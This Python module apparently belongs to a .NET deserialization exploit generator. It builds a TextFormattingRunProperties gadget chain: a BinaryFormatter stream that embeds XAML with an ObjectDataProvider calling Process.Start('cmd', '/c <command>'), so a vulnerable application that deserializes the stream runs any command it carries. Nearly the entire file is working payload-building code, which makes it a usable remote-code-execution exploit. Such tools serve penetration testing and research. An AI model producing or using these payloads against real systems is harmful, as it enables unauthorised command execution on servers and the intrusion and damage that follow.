"""
TextFormattingRunProperties gadget chain.

TextFormattingRunProperties deserializes its ForegroundBrush member by
handing the string to XamlReader.Parse. The XAML below declares an
ObjectDataProvider that calls Process.Start("cmd", "/c <command>") while
the resource dictionary is being loaded.

Stream layout:
- SerializationHeaderRecord (root 1, header -1)
- BinaryLibrary 2: Microsoft.PowerShell.Editor
- ClassWithMembersAndTypes 1: TextFormattingRunProperties
    ForegroundBrush (String) = BinaryObjectString 3 (XAML)
- MessageEnd
"""

import re
import xml.etree.ElementTree as ET
from xml.sax.saxutils import escape

from ..constants import (
    HEADER_ID_NONE,
    POWERSHELL_EDITOR_ASSEMBLY,
    TEXT_FORMATTING_RUN_PROPERTIES_TYPE,
)
from ..enums import BinaryTypeEnum
from ..errors import MalformedRecordConstruction
from ..records import (
    SerializedStream,
    SerializationHeaderRecord,
    BinaryLibrary,
    ClassInfo,
    MemberTypeInfo,
    ClassWithMembersAndTypes,
    BinaryObjectString,
    MessageEnd,
)
from ..utils import logDebug
from .registry import register_gadget_chain

ROOT_ID = 1
LIBRARY_ID = 2
XAML_STRING_ID = 3

RESOURCE_DICTIONARY_TEMPLATE = """
<ResourceDictionary
  xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"
  xmlns:X="http://schemas.microsoft.com/winfx/2006/xaml"
  xmlns:S="clr-namespace:System;assembly=mscorlib"
  xmlns:D="clr-namespace:System.Diagnostics;assembly=system"
>
  <ObjectDataProvider X:Key="" ObjectType="{{X:Type D:Process}}" MethodName="Start">
    <ObjectDataProvider.MethodParameters>
      <S:String>cmd</S:String>
      <S:String>/c {command}</S:String>
    </ObjectDataProvider.MethodParameters>
  </ObjectDataProvider>
</ResourceDictionary>
"""

# Quotes are escaped as well so the text node is safe in any context;
# CR is escaped because XML parsers normalize a literal CR to LF
XML_TEXT_ENTITIES = {'"': '&quot;', "'": '&apos;', '\r': '&#13;'}


def escape_xml_text(text: str) -> str:
    """Escape & < > " ' (and CR) for use inside an XML text node."""
    return escape(text, XML_TEXT_ENTITIES)


def canonicalize_xml(document: str) -> str:
    """
    Collapse a hand-written XML document to a single line.

    Only safe on documents without significant whitespace in text nodes,
    so it is applied to the template before the command is substituted.
    """
    document = re.sub(r'\s+', ' ', document.strip())
    document = re.sub(r'>\s+<', '><', document)
    return re.sub(r'\s+(/?>)', r'\1', document)


_CANONICAL_TEMPLATE = canonicalize_xml(RESOURCE_DICTIONARY_TEMPLATE)


def build_resource_dictionary(cmd: str) -> str:
    """
    Build the single-line XAML resource dictionary that runs cmd.

    Raises:
        MalformedRecordConstruction: If cmd holds characters XML cannot carry
    """
    document = _CANONICAL_TEMPLATE.format(command=escape_xml_text(cmd))
    try:
        ET.fromstring(document)
    except (ET.ParseError, UnicodeEncodeError) as e:
        raise MalformedRecordConstruction(f"Command cannot be embedded in XAML: {e}") from None
    return document


@register_gadget_chain("TextFormattingRunProperties")
def build_text_formatting_run_properties(cmd: str) -> SerializedStream:
    """
    Build the TextFormattingRunProperties record graph for an OS command.

    Args:
        cmd: Command line passed to cmd.exe /c

    Returns:
        SerializedStream of four records
    """
    if cmd is None:
        raise MalformedRecordConstruction("Missing command")

    resource_dictionary = build_resource_dictionary(cmd)
    logDebug(f"TextFormattingRunProperties: XAML is {len(resource_dictionary)} chars")

    library = BinaryLibrary(
        library_id=LIBRARY_ID,
        library_name=POWERSHELL_EDITOR_ASSEMBLY,
    )

    return SerializedStream.from_values([
        SerializationHeaderRecord(root_id=ROOT_ID, header_id=HEADER_ID_NONE),
        library,
        ClassWithMembersAndTypes.from_member_values(
            class_info=ClassInfo(
                obj_id=ROOT_ID,
                name=TEXT_FORMATTING_RUN_PROPERTIES_TYPE,
                member_names=['ForegroundBrush'],
            ),
            member_type_info=MemberTypeInfo(
                binary_type_enums=[BinaryTypeEnum.String],
            ),
            library_id=library.library_id,
            member_values=[
                BinaryObjectString(obj_id=XAML_STRING_ID, string=resource_dictionary),
            ],
        ),
        MessageEnd(),
    ])
